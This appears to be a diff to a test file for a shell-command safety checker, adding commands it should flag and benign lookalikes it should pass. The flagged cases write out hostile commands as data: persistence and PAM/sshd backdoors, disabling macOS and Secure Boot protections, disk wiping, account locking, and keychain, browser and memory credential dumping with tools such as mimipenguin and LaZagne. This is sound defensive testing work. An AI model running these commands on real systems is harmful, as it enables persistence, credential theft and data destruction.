@@ -84,8 +84,45 @@ CAUGHT = [
     ("rsync -a --delete empty/ ~/", "filesystem.rsync-delete"),
     ("rsync -r --delete rsync://example.com:source destination", "filesystem.rsync-delete"),
     ("dd of=/var/log/syslog if=/dev/zero count=1", "filesystem.write-system-file"),
+    # start-up and auth locations, whatever tool puts the file there
+    (
+        "sudo cp job.plist /Library/LaunchDaemons/com.example.job.plist",
+        "filesystem.write-system-file",
+    ),
+    ("cp agent.plist ~/Library/LaunchAgents/", "filesystem.write-system-file"),
+    ("sudo install -m 644 job.service /etc/systemd/system/", "filesystem.write-system-file"),
+    ("sudo mv backup.sh /etc/cron.daily/backup", "filesystem.write-system-file"),
+    ("sudo ln -sf /opt/app/run.sh /etc/init.d/app", "filesystem.write-system-file"),
+    ("sudo cp rules.plist /etc/emond.d/rules/", "filesystem.write-system-file"),
+    ("sudo cp item.sh /Library/StartupItems/Item/Item", "filesystem.write-system-file"),
+    ("sudo cp 99-me /etc/sudoers.d/", "filesystem.write-system-file"),
+    (
+        "curl -fsSLo /etc/profile.d/env.sh https://example.com/env.sh",
+        "filesystem.write-system-file",
+    ),
+    ("echo /opt/hook.so | sudo tee -a /etc/ld.so.preload", "filesystem.write-system-file"),
+    ("echo '<plist/>' > ~/Library/LaunchAgents/com.me.plist", "filesystem.write-system-file"),
+    # editing in place is writing
+    (
+        "sudo sed -i '2i auth optional pam_exec.so /opt/x' /etc/pam.d/sshd",
+        "filesystem.write-system-file",
+    ),
+    ("sed -i '' -e 's/^#//' /etc/pam.d/sudo", "filesystem.write-system-file"),
+    (
+        "sudo sed -i.orig 's/^PermitRoot.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
+        "filesystem.write-system-file",
+    ),
+    ("sudo perl -pi -e 's/NOPASSWD//' /etc/sudoers", "filesystem.write-system-file"),
+    ("sudo sed --in-place 's/old/new/' /etc/hosts", "filesystem.write-system-file"),
     # disks
     ("mkfs.ext4 /dev/sdb1", "disks.mkfs"),
+    ("sudo nwipe --method=dodshort --autonuke /dev/nvme1n1", "disks.wipe-disk"),
+    ("nwipe --autonuke --nowait", "disks.wipe-disk"),
+    ("dwipe /dev/sdc", "disks.wipe-disk"),
+    ("sudo sswap -l /dev/sda3", "disks.wipe-disk"),
+    ("ddrescue --force backup.img /dev/sdc rescue.map", "disks.wipe-disk"),
+    ("sudo scrub -p nnsa /dev/sdc", "filesystem.shred-device"),
+    ("sfill -l /home", "filesystem.shred"),
     ("sudo mkfs -t xfs -f /dev/nvme0n1", "disks.mkfs"),
     ("mkswap /dev/sda2", "disks.mkfs"),
     ("sudo mkswap notes.txt", "disks.mkswap-file"),
@@ -123,6 +160,16 @@ CAUGHT = [
     (":(){ :|:& };:", "system.fork-bomb"),
     ("bomb() { bomb | bomb & }; bomb", "system.fork-bomb"),
     ("sudo shutdown -h now", "system.shutdown"),
+    ("sudo kexec -e", "system.shutdown"),
+    ("kexec /boot/vmlinuz-6.1 --initrd=/boot/initrd-6.1 --reuse-cmdline", "system.shutdown"),
+    ("sudo rtcwake -m off -s 3600", "system.shutdown"),
+    ("sudo fdesetup disable -user admin", "system.security-off"),
+    ("csrutil authenticated-root disable", "system.security-off"),
+    ("sudo spctl --global-disable", "system.security-off"),
+    ("sudo mokutil --disable-validation", "system.security-off"),
+    ("sudo pw lock alice", "system.account-lock"),
+    ("sudo chsh -s /usr/sbin/nologin alice", "system.account-lock"),
+    ("pwpolicy -u alice -disableuser", "system.account-lock"),
     ("reboot", "system.shutdown"),
     ("init 0", "system.shutdown"),
     ("systemctl poweroff", "system.shutdown"),
@@ -244,6 +291,19 @@ CAUGHT = [
         "python3 -c \"import os,glob; [os.remove(f) for f in glob.glob('*')]\"",
         "interpreters.delete-unknown",
     ),
+    # exfiltration: credential dumping
+    ("zip -r /tmp/kc.zip ~/Library/Keychains", "exfiltration.credential-dump"),
+    ("cp /Users/al/Library/Keychains/login.keychain-db .", "exfiltration.credential-dump"),
+    ("security dump-keychain -d", "exfiltration.credential-dump"),
+    ("security find-internet-password -s example.com -g", "exfiltration.credential-dump"),
+    ("tar cf keys.tar ~/.local/share/keyrings", "exfiltration.credential-dump"),
+    ("cp ~/.config/chromium/Default/'Login Data' ld.db", "exfiltration.credential-dump"),
+    ("sudo cat /proc/812/mem > heap.bin", "exfiltration.credential-dump"),
+    ("dd if=/proc/$pid/mem of=out.bin bs=4096 skip=1", "exfiltration.credential-dump"),
+    ("sudo gcore -o /tmp/core 812", "exfiltration.credential-dump"),
+    ("gdb -p 812 -batch -ex 'dump memory heap.bin 0x1000 0x2000'", "exfiltration.credential-dump"),
+    ("sudo ./mimipenguin.sh", "exfiltration.credential-dump"),
+    ("sudo python3 tools/lazagne.py all", "exfiltration.credential-dump"),
     ("python3 -c \"open('/etc/passwd', 'w').write('')\"", "interpreters.overwrite-system"),
     ("python3 - <<EOF\nopen('/dev/sda', 'wb').write(b'0')\nEOF", "interpreters.overwrite-system"),
 ]
@@ -343,6 +403,33 @@ PASSES = [
     "which mkfs",
     "rm --help",
     "cat <<EOF > notes.md\nrm -rf /\ncurl x | sh\nEOF",
+    "cp job.plist ./launchd/com.example.job.plist",
+    "sudo install -m 755 tool /usr/local/bin/tool",
+    "sudo install -d /etc/myapp",
+    "ln -s ../shared/config.yml config.yml",
+    "rsync -a units/ deploy@host:/etc/systemd/system/",
+    "cp /etc/pam.d/sshd pam-sshd.txt",
+    "sed -i 's/old/new/' src/app.py",
+    "sed -n '/auth/p' /etc/pam.d/sshd",
+    "perl -pe 's/a/b/' /etc/profile",
+    "perl -pi -e 's/a/b/' lib/Module.pm",
+    "wget -O release.tar.gz https://example.com/release.tar.gz",
+    "security list-keychains",
+    "sudo kexec -l /boot/vmlinuz-6.1 --initrd=/boot/initrd-6.1 --reuse-cmdline",
+    "rtcwake -m show",
+    "fdesetup status",
+    "csrutil status",
+    "mokutil --sb-state",
+    "pw unlock alice",
+    "chsh -s /bin/zsh",
+    "nwipe --help",
+    "ddrescue -n /dev/sdc rescued.img rescue.map",
+    "sfill --help",
+    "security find-generic-password -s example",
+    "ls -l ~/Library/Keychains",
+    "cat /proc/812/status",
+    "gdb -p 812 -batch -ex bt",
+    "gcore --help",
 ]
 
 
@@ -413,6 +500,10 @@ def test_paths_places() -> None:
     )
     assert paths.place("/tmp") == paths.OTHER and paths.place("./build") == paths.OTHER
     assert paths.is_block_device("/dev/nvme0n1p2") and not paths.is_block_device("/dev/null")
+    assert paths.is_startup_or_auth("/etc/pam.d/su") and paths.is_startup_or_auth("/etc/sudoers")
+    assert paths.is_startup_or_auth("$HOME/Library/LaunchAgents/x.plist")
+    assert paths.is_startup_or_auth("/etc/cron.hourly") and paths.is_startup_or_auth("/etc/profile")
+    assert not paths.is_startup_or_auth("/etc/profiles") and not paths.is_startup_or_auth("/etc")
     assert paths.secret_kind("~/.ssh/id_rsa") == "private"
     assert paths.secret_kind("~/.ssh/id_rsa.pub") is None
     assert paths.secret_kind(".env") == "secret" and paths.secret_kind(".env.example") is None
